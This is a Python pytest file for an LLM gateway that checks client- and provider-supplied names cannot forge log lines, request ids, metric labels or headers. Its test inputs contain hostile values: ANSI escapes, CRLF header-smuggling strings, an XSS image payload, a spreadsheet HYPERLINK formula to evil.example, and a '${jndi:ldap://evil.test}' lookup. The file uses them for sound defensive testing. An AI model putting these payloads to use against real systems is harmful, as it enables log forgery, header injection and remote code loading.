"""THREATS row 24, from the client's side: nothing that a client names forges a record, a log line, an id or a label."""

import json
import re
import secrets
import urllib.parse

import pytest
from attacked import ASK, CHAT, JSON, PATH, ask_tunnel, call, careless, provider, recorded, rules, tunnelled, wire

from rig import behaviours as does
from rig.gateway import Gateway
from rig.scripted import Upstream
from rig.starts import StartGateway, StartUpstream
from rig.wire import Fields, Http2

ID = re.compile(r"req_[0-9a-f]{32}")
FORGED = '{"time":"2025-01-01T00:00:00.000Z","id":"req_forged","status":200}'
ODD = {
    "forged-record": FORGED,
    "ansi": "\x1b[2J\x1b[1;31mroot\x07",
    "bidi": "\u202egpj.exe",
    "line-separators": "a\u2028b\u2029c\x85d",
    "nul": "a\0b",
    "crlf": "a\r\nb",
    "script": "<img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("https://evil.example")',
    "label": '",code="none"} 999\nmitmgate_exchanges_total{a="',
    "percent": "%s%n{0.__class__}${jndi:ldap://evil.test}",
    "megabyte": "x" * (1 << 20),
    "emoji": "\U0001f600",
}


@pytest.fixture(scope="module")
def served(shared_upstream: StartUpstream) -> Upstream:
    return shared_upstream(does.ok())


@pytest.fixture
def gateway(gateway: StartGateway, served: Upstream) -> Gateway:
    """One of its own for each test, so that its lines can be counted."""
    return gateway(rules(provider(served), match={}))


@pytest.fixture(scope="module")
def intercepting(shared_gateway: StartGateway, served: Upstream) -> Gateway:
    return shared_gateway(rules(provider(served), match={}, intercept=["llm.test"]))


@pytest.fixture(autouse=True)
def forgotten(served: Upstream) -> None:
    served.script(does.ok())


def lines_of(gateway: Gateway, count: int) -> list[dict[str, object]]:
    """The records, which must be all that stands in the log: as many lines as exchanges, each one JSON and printable."""
    records = gateway.records(count)
    text = (gateway.folder / "stdout").read_bytes()
    assert len(records) == count == text.count(b"\n")
    shown = text.decode("utf-8")
    assert all(character.isprintable() or character == "\n" for character in shown)
    assert len(shown.splitlines()) == count
    assert all(ID.fullmatch(str(record["id"])) for record in records)
    assert len({record["id"] for record in records}) == count
    assert "\x1b" not in gateway.errors()
    assert max(map(len, text.splitlines())) < 4096
    return records


async def test_names_in_bodies(gateway: Gateway) -> None:
    """The model, and fields that could be taken for a name."""
    for value in ODD.values():
        for field in ("model", "user", "reasoning_effort"):
            answer = await call(gateway, body=json.dumps({**CHAT, field: value}).encode())
            assert answer.status in (200, 400)
            assert all(" " <= character <= "~" for _, held in answer.headers for character in held)
    lines_of(gateway, 3 * len(ODD))


async def test_tags_tasks_projects_and_tenants(gateway: Gateway) -> None:
    """What a call says about itself, in its body and in its headers: told if it is plain text, else not at all."""
    sent = 0
    for value in ODD.values():
        said = {"project_id": value, "tenantId": value, "gateflow": {"tags": {value: "a", "team": value}}}
        answer = await call(gateway, body=json.dumps({**CHAT, **said}).encode())
        assert answer.status == 200, answer
        sent += 1
        plain = value.encode("utf-8", "surrogateescape")
        if not re.search(rb"[\r\n\0]", plain) and len(plain) < 4096:
            names = ("x-gateflow-task-type", "x-gateway-project-id", "x-gateflow-tags")
            answer = await call(gateway, headers=(JSON, *((name, plain.decode("latin-1")) for name in names)))
            sent += answer.status != 431
            assert answer.status in (200, 400), answer
    lines = lines_of(gateway, sent)
    assert {line["project"] for line in lines} == {"unknown"}
    for line in lines:
        for text in (line["task"], line["tenant"], *line["tags"], *line["tags"].values()):  # type: ignore[misc, attr-defined]
            assert text is None or (text.isprintable() and len(text) <= 128)
    assert any(line["task"] == ODD["script"] for line in lines), "plain text is told as it is"
    assert any(line["tags"] == {ODD["formula"]: "a", "team": ODD["formula"]} for line in lines)


async def test_as_many_tags_as_there_may_be(gateway: Gateway) -> None:
    """The largest line that a client can cause: bounded, and still one line."""
    for count in (32, 33, 10_000):
        tags = {f"{number:04}" + "\U0001f600" * 124: "\U0001f600" * 128 for number in range(count)}
        answer = await call(gateway, body=json.dumps({**CHAT, "gateflow": {"tags": tags}}).encode())
        assert answer.status == 200
    lines = gateway.records(3)
    assert [len(line["tags"]) for line in lines] == [32, 0, 0]
    assert max(map(len, (gateway.folder / "stdout").read_bytes().splitlines())) < 64 << 10


async def test_names_in_paths_and_queries(gateway: Gateway) -> None:
    values = [urllib.parse.quote(value)[:2000] for value in ODD.values()]
    for value in values:
        await call(gateway, f"/openai/deployments/{value}/chat/completions?api-version=1")
        await call(gateway, f"/v1/models/{value}", method="GET", headers=(), body=b"")
        await call(gateway, f"{PATH}?{value}")
    lines_of(gateway, 3 * len(values))


HEADERS = (
    "x-request-id",
    "x-gateway-request-id",
    "traceparent",
    "x-client-request-id",
    "user-agent",
    "x-forwarded-for",
    "x-stainless-lang",
)


@pytest.mark.parametrize("name", HEADERS)
async def test_names_in_headers(gateway: Gateway, served: Upstream, name: str) -> None:
    """The client's id never is the exchange's, whatever it looks like; an odd one does not reach the provider as an id."""
    sent = 0
    values = [FORGED, "req_" + "0" * 32, "same-id", "same-id", "x" * 3000, "\x1b[31mred", "a\tb", "=cmd()", "<b>"]
    for value in values:
        answer = await call(gateway, headers=(JSON, (name, value)))
        sent += 1
        assert ID.fullmatch(answer.header("x-request-id") or ""), (name, value[:40], answer)
        assert value not in (answer.header("x-request-id"), answer.header("x-gateway-request-id"))
    lines_of(gateway, sent)
    if name.startswith("x-gateway-"):
        assert all(request.header(name) is None for request in served.requests)


@pytest.mark.parametrize(
    "raw",
    [b"X-Request-ID: a\nSet-Cookie: b", b"X-Request-ID: a\rb", b"X-Request-ID: a\0b", b"X-\x1bA: b", b"X-Request-ID a", b": b"],
)
async def test_headers_that_are_none(gateway: Gateway, served: Upstream, raw: bytes) -> None:
    """Refused, or read without what made them odd: no header that the client did not send, no log line of its making."""
    async with wire(gateway) as client:
        head = f"POST {PATH} HTTP/1.1\r\nHost: {gateway.authority}\r\n"
        head += f"content-type: application/json\r\ncontent-length: {len(ASK)}\r\n"
        client.writer.write(head.encode() + raw + b"\r\n\r\n" + ASK)
        answer = await client.reply()
    assert answer.status in (200, 400), answer
    assert answer.header("set-cookie") is None
    for request in served.requests:
        assert not any(b in value for _, value in request.headers for b in (b"\n", b"\r", b"\0"))
    lines_of(gateway, 1)
    assert "Traceback" not in gateway.errors()


@pytest.mark.parametrize(
    "value", ["a\r\nx-evil: 1", "a\nx-evil: 1", "a\rx-evil: 1", "a\0b", "a\r\n\r\nGET / HTTP/1.1"], ids=ascii
)
@pytest.mark.parametrize("place", ["value", "name", "path", "method"])
async def test_http2_brings_no_line_ends(intercepting: Gateway, served: Upstream, place: str, value: str) -> None:
    """HTTP/2 can carry what would be a new line in HTTP/1.1 (RFC 9113, section 10.3): refused before it is written anew."""
    async with tunnelled(intercepting, "llm.test:443", sni="llm.test", tls=careless("h2")) as client:
        http2 = Http2((client.reader, client.writer)).start()
        http2._h2.config.validate_outbound_headers = False  # an attacker's client sends what it likes
        http2._h2.config.normalize_outbound_headers = False
        more = {"value": ("x-a", value), "name": (f"x-{value}", "b")}.get(place, ("x-a", "b"))
        method, path = value if place == "method" else "POST", PATH + value if place == "path" else PATH
        answer = await http2.reply(await http2.send(method, path, (JSON, more), ASK, authority="llm.test"))
    assert answer.fault or answer.status == 400, answer
    assert served.untouched


async def test_names_that_a_provider_gives(gateway: Gateway, served: Upstream) -> None:
    """The model that it says it is, and its ids."""
    for value in ODD.values():
        served.script(
            does.answer(does.completion("x", model=value), headers=(("x-request-id", "\x1b[31m" + value[:20].encode().hex()),))
        )
        await call(gateway)
        served.script(does.chunks(does.event({"content": "x"}, model=value), does.STOP, does.DONE))
        await call(gateway, body=json.dumps({**CHAT, "stream": True}).encode())
        served.script(does.status(500, error_code=value, message=value))
        await call(gateway)
    lines_of(gateway, 3 * len(ODD))


async def test_tokens_that_a_provider_claims(gateway: Gateway, served: Upstream) -> None:
    counts = [-1, 10**30, 1e308, True, "5", None, [], {"a": 1}, 2**63]
    for count in counts:
        document = {**does.completion("x"), "usage": {"prompt_tokens": count, "completion_tokens": count}}
        served.script(does.answer(document))
        assert (await call(gateway)).status == 200
    lines_of(gateway, len(counts))
    assert gateway.admin("/metrics")[0] == 200


async def test_tunnels_to_odd_names(gateway: Gateway) -> None:
    """A tunnel is no exchange and leaves no record, a request that cannot be read does; nothing of it is told anywhere."""
    unread = 0
    for name in ("\x1b[31mred:443", "a\tb:443", "x" * 5000 + ":443", f"{FORGED}:443"):
        async with wire(gateway) as client:
            answer = await ask_tunnel(client, name)
        assert answer.status in (400, 403), answer
        unread += answer.status == 400
    assert {record["method"] for record in lines_of(gateway, unread)} == {"-"}
    assert "\x1b" not in gateway.log()
    assert "forged" not in gateway.log()


async def test_labels_are_bounded(gateway: Gateway) -> None:
    """Two hundred models, paths, methods and hosts that nobody named make no series of their own."""
    await call(gateway)
    before = len(gateway.admin("/metrics")[1].splitlines())
    for number in range(50):
        name = secrets.token_hex(8)
        said = {"model": name, "project_id": name, "tenantId": name, "gateflow": {"tags": {name: name}}}
        await call(gateway, headers=(JSON, ("x-gateflow-task-type", name)), body=json.dumps({**CHAT, **said}).encode())
        await call(gateway, f"/v1/{name}", body=b"{}")
        await call(gateway, method=f"M{number}")
        await call(gateway, host=f"{name}.test")
    text = gateway.admin("/metrics")[1]
    assert len(text.splitlines()) - before < 150
    assert name not in text


async def test_secrets_and_user_text_are_in_no_log(gateway: Gateway, served: Upstream) -> None:
    """Not even when everything fails."""
    words = {"prompt": "a-prompt-that-is-secret", "key": "sk-client-secret", "reply": "a-reply-that-is-secret"}
    body = json.dumps({**CHAT, "messages": [{"role": "user", "content": words["prompt"]}]}).encode()
    headers: Fields = (JSON, ("authorization", f"Bearer {words['key']}"))
    for behaviour in (
        does.ok(words["reply"]),
        does.status(500, message=words["reply"]),
        does.garbage(),
        does.reset_before_headers(),
    ):
        served.script(behaviour)
        assert recorded(gateway, await call(gateway, headers=headers, body=body))
    for broken in (body[:-1], body.replace(b'"m"', b"1"), body + b"x"):
        assert (await call(gateway, headers=headers, body=broken)).status == 400
    for word in words.values():
        assert word not in gateway.log()
        assert word not in gateway.admin("/metrics")[1]
